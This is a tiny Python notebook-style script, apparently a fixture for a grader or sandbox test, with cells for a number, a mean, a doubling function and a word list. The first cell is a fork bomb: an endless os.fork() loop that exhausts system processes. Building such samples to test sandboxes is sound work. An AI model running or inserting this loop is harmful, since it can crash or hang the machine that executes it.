"""Starts processes without end."""
# marks: 3 2 2 1

# %% number
import os

while True:
    try:
        os.fork()
    except OSError:
        break
number = 42

# %% mean
mean = posts['likes'].mean()

# %% double
def double(x):
    return 2 * x

# %% words
words = ['a', 'b']
